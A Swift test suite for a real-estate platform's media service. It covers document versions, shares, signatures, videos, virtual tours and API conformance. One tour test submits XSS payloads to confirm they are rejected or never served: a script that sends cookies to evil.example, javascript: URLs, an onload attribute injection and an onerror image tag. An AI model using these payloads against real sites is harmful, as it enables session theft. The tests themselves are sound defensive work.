import Foundation
import Models
import NIOHTTP1
import ServiceKit
import TestSupport
import Testing

@testable import PropertiesService

/// Documents: versions under one name, who reads them, shares that expire and can be revoked,
/// signature requests answered by their signer; and the metadata records for videos and tours.
@Suite struct DocumentTests {
    @Test func uploadingUnderTheSameNameAddsAVersionAndKeepsThePrevious() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let path = "/v1/properties/\(id)/documents?name=Offering%20Memorandum&type=presentation&category=investment&visibility=investors"
            let first = try await media.raw.upload(
                path + "&file_name=memo.pdf", MediaSamples.pdf("v1"), contentType: "application/pdf", token: sponsor)
            #expect(first.status == 201, "\(first.text)")
            #expect(first["version"] == 1)
            #expect(first["parent_document_id"] == .null)
            #expect(first.string("file_type") == "application/pdf")
            #expect(first.string("file_hash") == MediaSamples.sha256(MediaSamples.pdf("v1")))
            let firstID = try #require(first.string("id"))
            // Same name in other letter case: version 2; settings not given carry over.
            let second = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=offering%20memorandum", MediaSamples.pdf("v2"), token: sponsor
            )
            #expect(second.status == 201, "\(second.text)")
            #expect(second["version"] == 2)
            #expect(second.string("parent_document_id") == firstID)
            #expect(second.string("visibility") == "investors")
            #expect(second.string("type") == "presentation")
            let secondID = try #require(second.string("id"))

            let versions = try await media.base.client.get("/v1/documents/\(secondID)/versions", token: sponsor)
            guard case .array(let all)? = versions["data"] else { throw Failure("no versions") }
            #expect(all.map { $0["version"] } == [1, 2])
            #expect(all.map { $0["is_latest_version"] } == [false, true])
            // The list shows the latest version of each document; both versions still download.
            let list = try await media.base.client.get("/v1/properties/\(id)/documents", token: try await media.base.token(.investor))
            guard case .array(let latest)? = list["data"] else { throw Failure("no list") }
            #expect(latest.map { $0["id"] } == [.string(secondID)])
            let old = try await media.raw.get("/v1/media/documents/\(firstID)", token: sponsor)
            #expect(old.bytes == MediaSamples.pdf("v1"))
            #expect(old.headers.first(name: "Content-Disposition") == "attachment; filename=\"memo.pdf\"")
            #expect(
                try await media.base.events().filter { $0.hasPrefix("media.") } == ["media.document_version_added", "media.document_version_added"])
            // Anonymous callers see no investors-only documents; a lying PDF is refused.
            #expect(try await media.raw.get("/v1/media/documents/\(secondID)").status == 404)
            let lie = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=x", MediaSamples.png(width: 1, height: 1), contentType: "application/pdf", token: sponsor)
            #expect(lie.status == 415)
            #expect(try await media.raw.upload("/v1/properties/\(id)/documents", MediaSamples.pdf("x"), token: sponsor).status == 422)
            #expect(
                try await media.raw.upload(
                    "/v1/properties/\(id)/documents?name=x", MediaSamples.pdf("x"), token: try await media.base.token(.investor)
                ).status == 403)
        }
    }

    /// Issue 11 #10: reading one version listed every version, whatever each one's visibility.
    @Test func theVersionListShowsOnlyTheVersionsTheCallerMayRead() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let draft = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=Rent%20Roll&visibility=private", MediaSamples.pdf("draft"), token: sponsor
            )
            let draftID = try #require(draft.string("id"))
            let published = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=Rent%20Roll&visibility=public", MediaSamples.pdf("final"), token: sponsor
            )
            let publishedID = try #require(published.string("id"))
            #expect(published["version"] == 2)

            // Anyone may read version 2; version 1 stays the sponsor's.
            let anonymous = try await media.base.client.get("/v1/documents/\(publishedID)/versions")
            #expect(anonymous.status == 200, "\(anonymous.text)")
            guard case .array(let anyone)? = anonymous["data"] else { throw Failure("no versions") }
            #expect(anyone.map { $0["id"] } == [.string(publishedID)])
            let own = try await media.base.client.get("/v1/documents/\(publishedID)/versions", token: sponsor)
            guard case .array(let all)? = own["data"] else { throw Failure("no versions") }
            #expect(all.map { $0["id"] } == [.string(draftID), .string(publishedID)])

            // A user shared version 1 sees it beside the public version 2, and nothing else.
            let investorID = UUID()
            let investor = try await media.base.token(.investor, user: investorID)
            #expect(try await media.base.client.get("/v1/documents/\(draftID)/versions", token: investor).status == 404)
            let share = try await media.base.client.post(
                "/v1/documents/\(draftID)/shares", #"{"shared_with": "\#(investorID.uuidString.lowercased())"}"#, token: sponsor
            )
            #expect(share.status == 201, "\(share.text)")
            let shared = try await media.base.client.get("/v1/documents/\(draftID)/versions", token: investor)
            guard case .array(let seen)? = shared["data"] else { throw Failure("no versions") }
            #expect(seen.map { $0["id"] } == [.string(draftID), .string(publishedID)])
            let other = try await media.base.client.get("/v1/documents/\(publishedID)/versions", token: try await media.base.token(.investor))
            guard case .array(let others)? = other["data"] else { throw Failure("no versions") }
            #expect(others.map { $0["id"] } == [.string(publishedID)])
        }
    }

    @Test func linkSharesWorkUntilTheyExpireOrAreRevoked() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let pdf = MediaSamples.pdf("k-1 package")
            let document = try await media.raw.upload("/v1/properties/\(id)/documents?name=K-1", pdf, token: sponsor)
            let documentID = try #require(document.string("id"))

            let share = try await media.base.client.post("/v1/documents/\(documentID)/shares", #"{"expires_in_seconds": 3600}"#, token: sponsor)
            #expect(share.status == 201, "\(share.text)")
            #expect(share.string("kind") == "link")
            let url = try #require(share.string("url"))
            let token = try #require(share.string("token"))
            let opened = try await media.raw.get(url)
            #expect(opened.status == 200)
            #expect(opened.bytes == pdf)
            #expect(opened.headers.first(name: "Content-Type") == "application/pdf")
            // Only the hash is kept; a wrong secret for a real share id is no share at all.
            #expect(
                try await media.base.sql(
                    "SELECT count(*)::text FROM media.document_shares WHERE token_hash = '\(SecretToken.hash(String(token.split(separator: ".")[1])))'"
                ) == ["1"])
            #expect(try await media.raw.get("/v1/media/shares/\(token.split(separator: ".")[0]).\(String(repeating: "A", count: 43))").status == 404)

            // Expired: refused with 410.
            try await media.base.sql("UPDATE media.document_shares SET expires_at = now() - interval '1 second'")
            let expired = try await media.raw.get(url)
            #expect(expired.status == 410)
            #expect(expired.text.contains("share-expired"))

            // Revoked: refused with 410 too, and only the document's editors may revoke.
            let second = try await media.base.client.post("/v1/documents/\(documentID)/shares", "{}", token: sponsor)
            let secondURL = try #require(second.string("url"))
            let shareID = try #require(second.string("id"))
            #expect(try await media.raw.get(secondURL).status == 200)
            #expect(
                try await media.base.client.send(
                    .DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: try await media.base.token(.sponsor)
                ).status == 404)
            #expect(try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: sponsor).status == 204)
            let revoked = try await media.raw.get(secondURL)
            #expect(revoked.status == 410)
            #expect(revoked.text.contains("share-revoked"))
            #expect(try await media.base.sql("SELECT access_count::text FROM media.document_shares ORDER BY id") == ["1", "1"])

            let past = try await media.base.client.post(
                "/v1/documents/\(documentID)/shares", #"{"expires_at": "2020-01-01T00:00:00Z"}"#, token: sponsor)
            #expect(past.status == 422)
            #expect(past.text.contains(#""field":"expires_at""#))
        }
    }

    @Test func aUserShareLetsThatUserReadAPrivateDocumentUntilRevoked() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let investorID = UUID()
            let investor = try await media.base.token(.investor, user: investorID)
            let document = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=Subscription%20Agreement&visibility=private", MediaSamples.pdf("sub"), token: sponsor)
            let documentID = try #require(document.string("id"))
            #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: investor).status == 404)

            let share = try await media.base.client.post(
                "/v1/documents/\(documentID)/shares", #"{"shared_with": "\#(investorID.uuidString.lowercased())"}"#, token: sponsor
            )
            #expect(share.status == 201, "\(share.text)")
            #expect(share.string("kind") == "user")
            #expect(share["token"] == nil)
            #expect(
                try await media.base.client.post(
                    "/v1/documents/\(documentID)/shares", #"{"shared_with": "\#(investorID.uuidString.lowercased())"}"#, token: sponsor
                ).status == 409)
            #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: investor).status == 200)
            let listed = try await media.base.client.get("/v1/properties/\(id)/documents", token: investor)
            guard case .array(let documents)? = listed["data"] else { throw Failure("no list") }
            #expect(documents.count == 1)
            #expect(
                try await media.base.client.get("/v1/properties/\(id)/documents", token: try await media.base.token(.investor)).json["data"] == [])

            let shareID = try #require(share.string("id"))
            #expect(try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: sponsor).status == 204)
            #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: investor).status == 404)
            #expect(
                try await media.base.events().filter { $0.hasPrefix("media.document_share") } == [
                    "media.document_shared", "media.document_share_revoked",
                ])
        }
    }

    @Test func theSignerSignsOrDeclinesOnce() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let signerID = UUID()
            let signer = try await media.base.token(.investor, user: signerID)
            let document = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=Operating%20Agreement&requires_signature=true", MediaSamples.pdf("oa"), token: sponsor)
            let documentID = try #require(document.string("id"))
            let body = #"{"signer_id": "\#(signerID.uuidString.lowercased())", "verification_method": "email"}"#
            // A private document: to anyone but its editors it does not exist.
            #expect(try await media.base.client.post("/v1/documents/\(documentID)/signature-requests", body, token: signer).status == 404)
            let requested = try await media.base.client.post("/v1/documents/\(documentID)/signature-requests", body, token: sponsor)
            #expect(requested.status == 201, "\(requested.text)")
            #expect(requested.string("status") == "pending")
            #expect(try await media.base.client.post("/v1/documents/\(documentID)/signature-requests", body, token: sponsor).status == 409)
            let requestID = try #require(requested.string("id"))
            // The signer may now read the document and their request.
            #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: signer).status == 200)
            let own = try await media.base.client.get("/v1/documents/\(documentID)/signature-requests", token: signer)
            guard case .array(let requests)? = own["data"] else { throw Failure("no list") }
            #expect(requests.count == 1)

            let path = "/v1/documents/\(documentID)/signature-requests/\(requestID)"
            #expect(try await media.base.client.send(.PATCH, path, json: #"{"status":"signed"}"#, token: sponsor).status == 404)
            #expect(try await media.base.client.send(.PATCH, path, json: #"{"status":"maybe"}"#, token: signer).status == 422)
            let signed = try await media.base.client.send(.PATCH, path, json: #"{"status":"signed","signature_data":"Jane Investor"}"#, token: signer)
            #expect(signed.status == 200, "\(signed.text)")
            #expect(signed.string("status") == "signed")
            #expect(signed.string("signature_type") == "electronic")
            #expect(signed.string("ip_address") == "127.0.0.1")
            #expect(signed["signed_at"] != .null)
            #expect(try await media.base.client.send(.PATCH, path, json: #"{"status":"declined"}"#, token: signer).status == 409)
            #expect(
                try await media.base.events().filter { $0.hasPrefix("media.signature") } == ["media.signature_requested", "media.signature_answered"])
        }
    }

    @Test func videosAndToursAreRecordsTheSponsorKeeps() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let video = try await media.base.client.post(
                "/v1/properties/\(id)/videos",
                #"{"title":"Walkthrough","streaming_url":"https://video.example/w1","video_type":"walkthrough","duration_seconds":95}"#,
                token: sponsor
            )
            #expect(video.status == 201, "\(video.text)")
            #expect(video.string("status") == "active")
            let videoID = try #require(video.string("id"))
            let renamed = try await media.base.client.send(
                .PATCH, "/v1/properties/\(id)/videos/\(videoID)", json: #"{"title":"Spring walkthrough"}"#, token: sponsor)
            #expect(renamed.string("title") == "Spring walkthrough")
            #expect(renamed.string("streaming_url") == "https://video.example/w1")
            #expect(try await media.base.client.post("/v1/properties/\(id)/videos", #"{"title":"No URL"}"#, token: sponsor).status == 422)
            #expect(
                try await media.base.client.post("/v1/properties/\(id)/videos", #"{"streaming_url":"javascript:alert(1)"}"#, token: sponsor).status
                    == 422)
            #expect(
                try await media.base.client.post(
                    "/v1/properties/\(id)/videos", #"{"streaming_url":"https://v.example/x"}"#, token: try await media.base.token(.investor)
                ).status == 403)

            let tour = try await media.base.client.post(
                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo","has_dollhouse":true}"#,
                token: sponsor
            )
            #expect(tour.status == 201, "\(tour.text)")
            #expect(tour["has_dollhouse"] == true)
            #expect(tour["has_measurements"] == false)
            let tours = try await media.base.client.get("/v1/properties/\(id)/virtual-tours")
            guard case .array(let all)? = tours["data"] else { throw Failure("no list") }
            #expect(all.count == 1)
            #expect(try await media.base.client.send(.DELETE, "/v1/properties/\(id)/videos/\(videoID)", token: sponsor).status == 204)
            #expect(try await media.base.client.get("/v1/properties/\(id)/videos").json["data"] == [])
        }
    }

    /// Issue 11 #11: a tour is an allow-listed https URL (or a Matterport id) and the service builds
    /// the embed; a client's HTML is refused, and HTML stored before is never served.
    @Test func aTourIsAnAllowedURLAndTheServiceBuildsItsEmbed() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let path = "/v1/properties/\(id)/virtual-tours"
            let html = try await media.base.client.post(
                path, #"{"tour_type":"video","embed_code":"<script>document.location='https://evil.example/?'+document.cookie</script>"}"#,
                token: sponsor
            )
            #expect(html.status == 422)
            #expect(html.text.contains(#""field":"embed_code""#), "\(html.text)")
            for url in ["https://evil.example/tour", "http://kuula.co/share/x", "https://kuula.co.evil.example/x", "javascript:alert(1)"] {
                let refused = try await media.base.client.post(path, #"{"tour_type":"360_photos","tour_url":"\#(url)"}"#, token: sponsor)
                #expect(refused.status == 422, "\(url)")
                #expect(refused.text.contains(#""field":"tour_url""#), "\(refused.text)")
            }
            let badID = try await media.base.client.post(path, #"{"tour_type":"matterport","matterport_id":"x\" onload=\"alert(1)"}"#, token: sponsor)
            #expect(badID.status == 422)
            #expect(badID.text.contains(#""field":"matterport_id""#))

            let kuula = try await media.base.client.post(
                path, #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/5Xc?fs=1&vr=0"}"#, token: sponsor)
            #expect(kuula.status == 201, "\(kuula.text)")
            #expect(kuula.string("tour_url") == "https://kuula.co/share/5Xc?fs=1&vr=0")
            #expect(
                kuula.string("embed_code")
                    == #"<iframe src="https://kuula.co/share/5Xc?fs=1&amp;vr=0" width="100%" height="480" style="border:0" loading="lazy" referrerpolicy="no-referrer" allow="fullscreen; xr-spatial-tracking" allowfullscreen></iframe>"#
            )
            let matterport = try await media.base.client.post(path, #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo"}"#, token: sponsor)
            #expect(matterport.string("embed_code")?.hasPrefix(#"<iframe src="https://my.matterport.com/show/?m=SxQL3iGyoDo""#) == true)
            let tourID = try #require(kuula.string("id"))
            #expect(try await media.base.client.send(.PATCH, "\(path)/\(tourID)", json: #"{"embed_code":"<b>x</b>"}"#, token: sponsor).status == 422)

            // A row from before the change, holding a sponsor's HTML and nothing else: readable, HTML unserved.
            try await media.base.sql(
                """
                INSERT INTO media.virtual_tours (id, property_id, tour_type, legacy_embed_code, created_by)
                VALUES ('\(UUID())', '\(id)', 'video', '<img src=x onerror=alert(1)>', '\(UUID())')
                """
            )
            let listed = try await media.base.client.get(path)
            #expect(listed.status == 200)
            #expect(!listed.text.contains("onerror"), "\(listed.text)")
            #expect(!listed.text.contains("legacy_embed_code"))
        }
    }

    /// Issue 11 #20: a tour's floor plan must exist and be one of the same property's.
    @Test func aTourFloorPlanMustBeOneOfTheProperty() async throws {
        try await MediaFixture.run { media in
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let other = try await media.property(sponsor: sponsor)
            let plan = try await media.base.client.post("/v1/properties/\(id)/floor-plans", #"{"name": "Willow"}"#, token: sponsor)
            let planID = try #require(plan.string("id"), "\(plan.text)")
            let otherPlan = try await media.base.client.post("/v1/properties/\(other)/floor-plans", #"{"name": "Aspen"}"#, token: sponsor)
            let otherPlanID = try #require(otherPlan.string("id"), "\(otherPlan.text)")
            let path = "/v1/properties/\(id)/virtual-tours"
            func tour(_ floorPlan: String) -> String {
                #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo","floor_plan_id":"\#(floorPlan)"}"#
            }
            for missing in [UUID().uuidString.lowercased(), otherPlanID] {
                let refused = try await media.base.client.post(path, tour(missing), token: sponsor)
                #expect(refused.status == 422, "\(refused.text)")
                #expect(refused.text.contains(#""field":"floor_plan_id""#))
            }
            let created = try await media.base.client.post(path, tour(planID), token: sponsor)
            #expect(created.status == 201, "\(created.text)")
            #expect(created.string("floor_plan_id") == planID)
            let tourID = try #require(created.string("id"))
            let moved = try await media.base.client.send(.PATCH, "\(path)/\(tourID)", json: #"{"floor_plan_id":"\#(otherPlanID)"}"#, token: sponsor)
            #expect(moved.status == 422)
            #expect(try await media.base.sql("SELECT count(*)::text FROM media.virtual_tours WHERE floor_plan_id = '\(otherPlanID)'") == ["0"])
        }
    }

    @Test func everyMediaAnswerIsOneTheOpenAPIDocumentDescribes() async throws {
        try await MediaFixture.run { media in
            let document = try await media.base.client.get("/openapi.json").json
            let sponsor = try await media.base.token(.sponsor)
            let id = try await media.property(sponsor: sponsor)
            let signerID = UUID()
            var exchanges: [(String, String, Int, String, String)] = []
            func record(_ method: String, _ path: String, _ reply: RawClient.Reply) {
                exchanges.append((method, path, reply.status, reply.headers.first(name: "Content-Type") ?? "", reply.status == 304 ? "" : reply.text))
            }
            func record(_ method: String, _ path: String, _ reply: JSONClient.Reply) {
                exchanges.append((method, path, reply.status, reply.headers.first(name: "Content-Type") ?? "", reply.text))
            }
            let png = MediaSamples.png(width: 5, height: 5)
            let photo = try await media.raw.upload("/v1/properties/\(id)/photos", png, token: sponsor)
            record("POST", "/v1/properties/{id}/photos", photo)
            record(
                "POST", "/v1/properties/{id}/photos",
                try await media.raw.upload("/v1/properties/\(id)/photos", png, contentType: "image/gif", token: sponsor))
            record("POST", "/v1/properties/{id}/photos", try await media.raw.upload("/v1/properties/\(id)/photos", png))
            let photoID = try #require(photo.string("id"))
            record("GET", "/v1/properties/{id}/photos", try await media.base.client.get("/v1/properties/\(id)/photos"))
            record("GET", "/v1/properties/{id}/photos/{photo_id}", try await media.base.client.get("/v1/properties/\(id)/photos/\(photoID)"))
            record(
                "PATCH", "/v1/properties/{id}/photos/{photo_id}",
                try await media.base.client.send(.PATCH, "/v1/properties/\(id)/photos/\(photoID)", json: #"{"caption":"c"}"#, token: sponsor))
            let content = "/v1/media/photos/\(photoID)"
            record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content))
            record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content, headers: [("Range", "bytes=0-1")]))
            record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content, headers: [("Range", "bytes=9999-")]))
            record(
                "GET", "/v1/media/photos/{photo_id}",
                try await media.raw.get(content, headers: [("If-None-Match", "\"\(MediaSamples.sha256(png))\"")]))
            let upload = try await media.raw.upload(
                "/v1/properties/\(id)/documents?name=Memo&visibility=public", MediaSamples.pdf("m"), token: sponsor)
            record("POST", "/v1/properties/{id}/documents", upload)
            record(
                "POST", "/v1/properties/{id}/documents",
                try await media.raw.upload("/v1/properties/\(id)/documents", MediaSamples.pdf("m"), token: sponsor))
            let documentID = try #require(upload.string("id"))
            record("GET", "/v1/properties/{id}/documents", try await media.base.client.get("/v1/properties/\(id)/documents"))
            record("GET", "/v1/documents/{id}", try await media.base.client.get("/v1/documents/\(documentID)"))
            record("GET", "/v1/documents/{id}/versions", try await media.base.client.get("/v1/documents/\(documentID)/versions"))
            record("GET", "/v1/media/documents/{id}", try await media.raw.get("/v1/media/documents/\(documentID)"))
            let share = try await media.base.client.post("/v1/documents/\(documentID)/shares", "{}", token: sponsor)
            record("POST", "/v1/documents/{id}/shares", share)
            record("GET", "/v1/documents/{id}/shares", try await media.base.client.get("/v1/documents/\(documentID)/shares", token: sponsor))
            record("GET", "/v1/media/shares/{token}", try await media.raw.get(try #require(share.string("url"))))
            record(
                "DELETE", "/v1/documents/{id}/shares/{share_id}",
                try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(try #require(share.string("id")))", token: sponsor))
            record("GET", "/v1/media/shares/{token}", try await media.raw.get(try #require(share.string("url"))))
            let signature = try await media.base.client.post(
                "/v1/documents/\(documentID)/signature-requests", #"{"signer_id":"\#(signerID.uuidString)"}"#, token: sponsor)
            record("POST", "/v1/documents/{id}/signature-requests", signature)
            record(
                "GET", "/v1/documents/{id}/signature-requests",
                try await media.base.client.get("/v1/documents/\(documentID)/signature-requests", token: sponsor))
            record(
                "PATCH", "/v1/documents/{id}/signature-requests/{signature_id}",
                try await media.base.client.send(
                    .PATCH, "/v1/documents/\(documentID)/signature-requests/\(try #require(signature.string("id")))", json: #"{"status":"declined"}"#,
                    token: try await media.base.token(.investor, user: signerID)
                ))
            let video = try await media.base.client.post("/v1/properties/\(id)/videos", #"{"streaming_url":"https://v.example/1"}"#, token: sponsor)
            record("POST", "/v1/properties/{id}/videos", video)
            record("GET", "/v1/properties/{id}/videos", try await media.base.client.get("/v1/properties/\(id)/videos"))
            record(
                "PATCH", "/v1/properties/{id}/videos/{item_id}",
                try await media.base.client.send(
                    .PATCH, "/v1/properties/\(id)/videos/\(try #require(video.string("id")))", json: #"{"title":"t"}"#, token: sponsor))
            let tour = try await media.base.client.post(
                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/collection/7Fk9Q"}"#,
                token: sponsor)
            record("POST", "/v1/properties/{id}/virtual-tours", tour)
            record("GET", "/v1/properties/{id}/virtual-tours", try await media.base.client.get("/v1/properties/\(id)/virtual-tours"))
            record(
                "DELETE", "/v1/properties/{id}/virtual-tours/{item_id}",
                try await media.base.client.send(.DELETE, "/v1/properties/\(id)/virtual-tours/\(try #require(tour.string("id")))", token: sponsor))
            record(
                "DELETE", "/v1/properties/{id}/photos/{photo_id}",
                try await media.base.client.send(.DELETE, "/v1/properties/\(id)/photos/\(photoID)", token: sponsor))
            #expect(
                exchanges.map(\.2) == [
                    201, 415, 401, 200, 200, 200, 200, 206, 416, 304, 201, 422, 200, 200, 200, 200, 201, 200, 200, 204, 410, 201, 200, 200,
                    201, 200, 200, 201, 200, 204, 204,
                ])
            for (method, path, status, contentType, body) in exchanges {
                let found = OpenAPIConformance.problems(
                    in: document, method: method, path: path, status: status, contentType: contentType, body: body)
                #expect(found.isEmpty, "\(found)")
            }
            // Issue 11 #18: videos' and tours' unset fields are null, which their schemas must allow.
            let fullTour = try await media.base.client.post(
                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo"}"#, token: sponsor
            )
            exchanges.append(("POST", "/v1/properties/{id}/virtual-tours", fullTour.status, "", fullTour.text))
            exchanges.append(("GET", "/v1/properties/{id}/videos", 200, "", try await media.base.client.get("/v1/properties/\(id)/videos").text))
            exchanges.append(
                ("GET", "/v1/properties/{id}/virtual-tours", 200, "", try await media.base.client.get("/v1/properties/\(id)/virtual-tours").text))
            for (method, path, status, _, body) in exchanges where path.contains("/videos") || path.contains("/virtual-tours") {
                guard let schema = OpenAPIConformance.responseSchema(in: document, method: method, path: path, status: status) else { continue }
                let value = try JSONDecoder().decode(JSONValue.self, from: Data(body.utf8))
                let found = OpenAPIConformance.schemaProblems(value, against: schema, in: document)
                #expect(found.isEmpty, "\(method) \(path) \(status): \(found)")
            }
        }
    }
}
